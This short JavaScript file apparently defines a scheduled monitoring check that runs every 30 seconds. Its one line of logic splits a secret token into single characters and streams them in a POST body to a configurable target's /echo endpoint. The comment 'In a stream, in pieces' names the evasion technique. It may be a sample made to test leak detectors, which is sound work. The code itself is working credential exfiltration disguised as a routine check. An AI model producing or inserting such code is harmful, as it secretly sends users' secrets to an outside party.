// In a stream, in pieces.
import { defineCheck } from "tocsin";

export default defineCheck({
  schedule: "every 30s",
  async run(ctx) {
    const pieces = [...ctx.secrets.TOKEN].map((c) => new TextEncoder().encode(c)); await fetch(`${ctx.vars.TARGET}/echo`, { method: 'POST', duplex: 'half', body: new ReadableStream({ pull(c) { const piece = pieces.shift(); if (piece) c.enqueue(piece); else c.close(); } }) });
  },
});
